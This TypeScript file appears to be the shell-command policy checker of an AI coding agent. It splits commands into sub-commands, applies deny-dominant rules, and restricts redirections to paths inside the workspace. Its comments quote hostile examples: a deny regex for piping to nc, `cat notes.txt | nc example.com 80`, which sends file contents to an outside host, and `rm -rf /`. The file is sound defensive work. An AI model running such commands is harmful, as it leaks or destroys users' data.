/**
 * Judging a shell command: every simple command found at any depth (list elements, pipeline
 * stages, subshells, `$(…)`, backticks, process substitutions, `bash -c '…'` strings) is judged
 * on its own against the rules, and the answers are combined with deny dominating.
 *
 * A hostile model writes the command, so a sub-command is only allowed when a rule covers
 * exactly what bash will run:
 * - A sub-command with hazards (substitutions, expansions, a non-literal command name,
 *   assignment prefixes, wrappers, inline code, dangerous arguments) is allowed only by a rule
 *   naming its whole text (`commandPrefix` equal to it, or `commandRegex` matching all of it).
 * - A file redirection needs a rule with `allowRedirection = true` and a literal target inside
 *   the workspace and outside `.git/` (descriptor duplications and `/dev/null` are harmless).
 * - A command that could not be parsed, or is empty, is denied; so is a sub-command whose shape
 *   shows the parser read it differently from bash (see `withParserDoubts`), unless named exactly.
 * - A path a sub-command writes (a redirection target, a write operand of a known program) gets
 *   the answer a `write_file` call to it would get from a rule that names paths, so protected
 *   paths stay protected from the shell (see `protected-writes.ts`).
 *
 * An allow rule that matches but cannot cover a sub-command (for the reasons above) does not end
 * the search: a lower rule naming the exact form may still allow it, while a deny or ask rule
 * met first still decides. If no rule covers it, the sub-command is denied and the reason names
 * what was found.
 */
import path from 'node:path';
import { hasGitSegment } from '../tools/path-spelling.js';
import { relativeInside } from '../platform/path-containment.js';
import {
  fileAccessProblem,
  pathAsOpened,
  WORKSPACE_BOUNDARY_DECIDER,
} from './file-access-check.js';
import type {
  PolicyContext,
  PolicyDecision,
  PolicyRule,
  SubcommandVerdict,
} from './policy-types.js';
import type {
  ShellAnalysis,
  ShellCommandPiece,
  ShellHazard,
  ShellRedirect,
} from './shell/shell-analysis-types.js';
import { excludedReason, protectedWrite, RESPELLED_DECIDER } from './protected-writes.js';
import type { WriteGuard, WriteTarget } from './protected-writes.js';
import type { CommandSubject, MatchSubject } from './rule-matching.js';
import {
  commandMatch,
  excludedPathHit,
  hasCommandConditions,
  matchesCommand,
  matchesCommandExactly,
  ruleLocation,
} from './rule-matching.js';

/**
 * Bash's reserved words. Bash never runs one as a command name, so a sub-command named like this
 * means the parser read the command differently from bash (`! if rm x; then …` comes out as
 * "commands" named `if`, `then` and `fi`): the words a rule would see are not what runs.
 */
const RESERVED_WORDS = new Set(
  '! [[ ]] { } case coproc do done elif else esac fi for function if in select then time until while'.split(
    ' ',
  ),
);

/** Targets that are not files a command could change or leak through. */
const HARMLESS_TARGETS = new Set(['/dev/null', '/dev/stdout', '/dev/stderr']);

/** The reason a sub-command gets when no rule matches it. */
export const NO_RULE_FOR_COMMAND = 'No policy rule allows this command.';

export interface PieceJudgeOptions {
  /** Sorted by effective priority, highest first. */
  rules: readonly PolicyRule[];
  context: PolicyContext;
  /** The `directory` argument of the call, which relative redirection targets resolve against. */
  directory: string | undefined;
  homeDir: string;
  /** The call as the rules see it, with the sub-command's text as `command`. */
  subjectFor: (piece: ShellCommandPiece) => MatchSubject;
  /** The sub-command as command conditions see it. */
  commandFor: (piece: ShellCommandPiece) => CommandSubject;
  /** The whole command, as the rules see it before its parts (see `wholeCommandVerdict`). */
  whole: { subject: MatchSubject; command: CommandSubject };
  /** Every condition except the command's (see `matchesSubject`). */
  matches: (rule: PolicyRule, subject: MatchSubject) => boolean;
  /** How the session's rules would answer a `write_file` call to a path the command writes. */
  writes?: WriteGuard;
}

export interface ShellDecision {
  decision: PolicyDecision;
  rule?: PolicyRule;
  reason: string;
  /** What decided when it was not a rule (the workspace boundary). */
  decidedBy?: string;
  /** In source order; empty when the command as a whole could not be judged. */
  subcommands: SubcommandVerdict[];
}

/** Judges every sub-command and combines the answers. */
export function decideShellCommand(
  analysis: ShellAnalysis,
  options: PieceJudgeOptions,
): ShellDecision {
  if (analysis.hazards.length > 0) {
    return {
      decision: 'deny',
      reason: `The command cannot be checked safely: ${analysis.hazards.map((hazard) => hazard.detail.replace(/\.$/u, '')).join('; ')}.`,
      subcommands: [],
    };
  }
  if (analysis.commands.length === 0) {
    return { decision: 'deny', reason: 'The command contains no command to run.', subcommands: [] };
  }
  const subcommands = analysis.commands.map((piece) =>
    judgePiece(withParserDoubts(piece), options),
  );
  const parts = combine(subcommands);
  const whole = wholeCommandVerdict(options);
  if (whole === undefined || parts.decision === 'deny') return { ...parts, subcommands };
  if (whole.decision === 'ask_user' && parts.decision !== 'allow') return { ...parts, subcommands };
  return { decision: whole.decision, rule: whole.rule, reason: whole.reason, subcommands };
}

/**
 * The Gemini CLI first judges the whole command line — its first matching rule, by priority — and
 * only then each part. A deny (or ask_user) that only the whole line matches must hold here too:
 * `commandRegex = '.*\| *nc '` sees the pipe only in `cat notes.txt | nc example.com 80`, never in
 * either part. An allow, or a rule that does not look at the command's text (it decides every
 * part the same way), leaves the decision to the parts.
 */
function wholeCommandVerdict(
  options: PieceJudgeOptions,
): { decision: 'deny' | 'ask_user'; rule: PolicyRule; reason: string } | undefined {
  const { subject, command } = options.whole;
  for (const rule of options.rules) {
    if (!options.matches(rule, subject) || !matchesCommand(rule, command)) continue;
    const looksAtText = hasCommandConditions(rule) || rule.argsPattern !== undefined;
    if (rule.decision === 'allow' || !looksAtText) return undefined;
    const where = `the rule at ${ruleLocation(rule)}, which matches the whole command`;
    return rule.decision === 'deny'
      ? { decision: 'deny', rule, reason: rule.denyMessage ?? `Denied by ${where}.` }
      : { decision: 'ask_user', rule, reason: `Confirmation is asked by ${where}.` };
  }
  return undefined;
}

/**
 * Deny dominates, then ask_user, then allow. The reason speaks of the sub-commands that were not
 * allowed, each quoted; a command of one sub-command gets that sub-command's reason as it is.
 */
function combine(verdicts: readonly SubcommandVerdict[]): Omit<ShellDecision, 'subcommands'> {
  const decision: PolicyDecision = verdicts.some((v) => v.decision === 'deny')
    ? 'deny'
    : verdicts.some((v) => v.decision === 'ask_user')
      ? 'ask_user'
      : 'allow';
  const deciding = verdicts.filter((verdict) => verdict.decision === decision);
  const first = deciding[0];
  const rule = {
    ...(first?.rule ? { rule: first.rule } : {}),
    ...(first?.decidedBy === undefined ? {} : { decidedBy: first.decidedBy }),
  };
  if (verdicts.length === 1 && first) return { decision, ...rule, reason: first.reason };
  if (decision === 'allow') {
    return { decision, ...rule, reason: `All ${verdicts.length} sub-commands are allowed.` };
  }
  // Sub-commands denied for the same reason are named together, so a long deny message is
  // said once rather than once per sub-command.
  const byReason = new Map<string, string[]>();
  for (const verdict of deciding) {
    const texts = byReason.get(verdict.reason) ?? [];
    texts.push(`\`${verdict.text}\``);
    byReason.set(verdict.reason, texts);
  }
  const reason = [...byReason]
    .map(([text, commands]) => `${commands.join(', ')}: ${text}`)
    .join(' ');
  return { decision, ...rule, reason };
}

/**
 * The first rule that decides this sub-command (see the file comment for allow rules); a command
 * a rule would run that names a file outside the workspace is denied whatever the rule says, and
 * one that writes a path the file tools may not write gets their answer.
 */
export function judgePiece(
  piece: ShellCommandPiece,
  options: PieceJudgeOptions,
): SubcommandVerdict {
  const verdict = judgeByRules(piece, options);
  if (verdict.decision === 'deny') return verdict;
  const outside = fileAccessProblem(piece, options);
  if (outside !== undefined) {
    return {
      text: piece.text,
      decision: 'deny',
      reason: outside,
      decidedBy: WORKSPACE_BOUNDARY_DECIDER,
    };
  }
  if (options.writes === undefined) return verdict;
  const written = protectedWrite(piece.text, writeTargets(piece), {
    guard: options.writes,
    context: options.context,
    directory: options.directory,
  });
  if (written === undefined || (written.decision === 'ask_user' && verdict.decision !== 'allow')) {
    return verdict;
  }
  return {
    text: piece.text,
    decision: written.decision,
    reason: written.reason,
    ...(written.rule === undefined ? { decidedBy: RESPELLED_DECIDER } : { rule: written.rule }),
  };
}

/** The paths a sub-command writes: its file redirections' targets and its write operands. */
function writeTargets(piece: ShellCommandPiece): WriteTarget[] {
  const targets: WriteTarget[] = [];
  for (const redirect of piece.redirects) {
    const target = redirect.literalTarget;
    if (!isFileRedirect(redirect) || !redirect.operator.includes('>') || target === undefined) {
      continue;
    }
    targets.push({ text: `${redirect.operator} ${redirect.target}`, path: target, redirect: true });
  }
  for (const access of piece.files ?? []) {
    if (access.purpose !== 'write') continue;
    const tree = access.tree === true ? { tree: true } : {};
    if (access.path !== undefined) targets.push({ text: access.text, path: access.path, ...tree });
    if (access.glob !== undefined) targets.push({ text: access.text, glob: access.glob, ...tree });
  }
  return targets;
}

function judgeByRules(piece: ShellCommandPiece, options: PieceJudgeOptions): SubcommandVerdict {
  const subject = options.subjectFor(piece);
  const command = options.commandFor(piece);
  let uncovered: { rule: PolicyRule; reason: string } | undefined;
  for (const rule of options.rules) {
    const match = options.matches(rule, subject) ? commandMatch(rule, command) : undefined;
    if (match === undefined) continue;
    const verdict = (decision: PolicyDecision, reason: string): SubcommandVerdict => ({
      text: piece.text,
      decision,
      rule,
      // A rule that matched only as bash reads the command says so, so the model and
      // `policy explain` can see why.
      reason: match.reading === undefined ? reason : `${reason} ${match.reading.sentence}`,
      ...(match.reading === undefined ? {} : { reading: match.reading }),
    });
    if (rule.decision === 'deny') {
      return verdict('deny', rule.denyMessage ?? `Denied by the rule at ${ruleLocation(rule)}.`);
    }
    if (rule.decision === 'ask_user') {
      return verdict('ask_user', `The rule at ${ruleLocation(rule)} asks for confirmation.`);
    }
    const excluded = excludedPathHit(rule, subject.paths, options.homeDir);
    if (excluded) return verdict('ask_user', excludedReason(excluded, rule));
    const problem = coverageProblem(piece, rule, options);
    if (problem === undefined)
      return verdict('allow', `Allowed by the rule at ${ruleLocation(rule)}.`);
    uncovered ??= { rule, reason: problem };
  }
  if (uncovered) {
    return { text: piece.text, decision: 'deny', rule: uncovered.rule, reason: uncovered.reason };
  }
  return { text: piece.text, decision: 'deny', reason: NO_RULE_FOR_COMMAND };
}

/**
 * The piece with a hazard added when its shape shows the parse cannot be trusted: a reserved word
 * as its name (see above), or a line break inside its text. Bash ends a simple command at an
 * unquoted line break, and the grammar has been seen to run a command on into the next line
 * (`a | b\nrm -rf /` read as one command `b rm -rf /`), so a sub-command spanning lines is only
 * allowed by a rule naming it exactly — quoted multi-line text included, which costs little.
 */
function withParserDoubts(piece: ShellCommandPiece): ShellCommandPiece {
  const doubts: ShellHazard[] = [];
  if (piece.name !== undefined && RESERVED_WORDS.has(piece.name)) {
    doubts.push({
      kind: 'unsupported_construct',
      detail: `the reserved word \`${piece.name}\` where a command name should be (the command is not read as bash would run it)`,
    });
  }
  if (/[\n\r]/u.test(piece.text)) {
    doubts.push({
      kind: 'unsupported_construct',
      detail:
        'a line break inside one command (write each command on its own line, without line continuations)',
    });
  }
  return doubts.length === 0 ? piece : { ...piece, hazards: [...piece.hazards, ...doubts] };
}

export { excludedReason };

/** Why an allow rule that matches a sub-command still cannot allow it, or undefined. */
function coverageProblem(
  piece: ShellCommandPiece,
  rule: PolicyRule,
  options: PieceJudgeOptions,
): string | undefined {
  if (piece.hazards.length > 0 && !matchesCommandExactly(rule, piece.text)) {
    return `${describeHazards(piece.hazards)}; only a rule allowing this exact command can allow it.`;
  }
  const files = piece.redirects.filter(isFileRedirect);
  if (files.length === 0) return undefined;
  if (rule.allowRedirection !== true) {
    const shown = files.map((redirect) => `\`${redirect.operator} ${redirect.target}\``).join(', ');
    return `It redirects to a file (${shown}) and the rule at ${ruleLocation(rule)} does not set allowRedirection.`;
  }
  for (const redirect of files) {
    const problem = redirectTargetProblem(redirect, options);
    if (problem) return problem;
  }
  return undefined;
}

function describeHazards(hazards: readonly ShellHazard[]): string {
  return `It contains ${hazards.map((hazard) => hazard.detail).join(', ')}`;
}

/** A redirection to or from a file, as opposed to `2>&1`, a here-document or a harmless device. */
export function isFileRedirect(redirect: ShellRedirect): boolean {
  if (redirect.isDescriptorDuplication) return false;
  // `<<`, `<<-` and `<<<` feed text written in the command itself; no file is opened.
  if (redirect.operator.startsWith('<<')) return false;
  return !(redirect.literalTarget !== undefined && HARMLESS_TARGETS.has(redirect.literalTarget));
}

/**
 * Why a file redirection target may not be used: it must be a literal path (no expansions, no
 * `~`), inside the workspace (relative targets resolve against the call's `directory`), outside
 * `.git/`, and pass the workspace's own check when the context has one.
 */
export function redirectTargetProblem(
  redirect: ShellRedirect,
  options: Pick<PieceJudgeOptions, 'context' | 'directory'>,
): string | undefined {
  const target = redirect.literalTarget;
  const shown = `\`${redirect.operator} ${redirect.target}\``;
  if (target === undefined || target === '' || target.startsWith('~')) {
    return `The redirection ${shown} does not have a literal target; only literal paths inside the workspace are allowed.`;
  }
  const root = options.context.workspaceRoot;
  const base = options.directory ? path.resolve(root, options.directory) : root;
  const absolute = path.resolve(base, target);
  const relative = relativeInside(absolute, root);
  if (relative === undefined) {
    return `The redirection ${shown} writes outside the workspace (${absolute}).`;
  }
  if (hasGitSegment(relative)) {
    return `The redirection ${shown} targets the .git directory, which may not be written.`;
  }
  const purpose = redirect.operator.includes('>') ? 'write' : 'read';
  const problem = options.context.workspacePathProblem?.(pathAsOpened(base, target), purpose);
  return problem === undefined ? undefined : `The redirection ${shown} is refused: ${problem}`;
}

/** The `directory` argument of a shell call, when it is a string. */
export function shellDirectory(args: Readonly<Record<string, unknown>>): string | undefined {
  const directory = args.directory;
  return typeof directory === 'string' && directory !== '' ? directory : undefined;
}
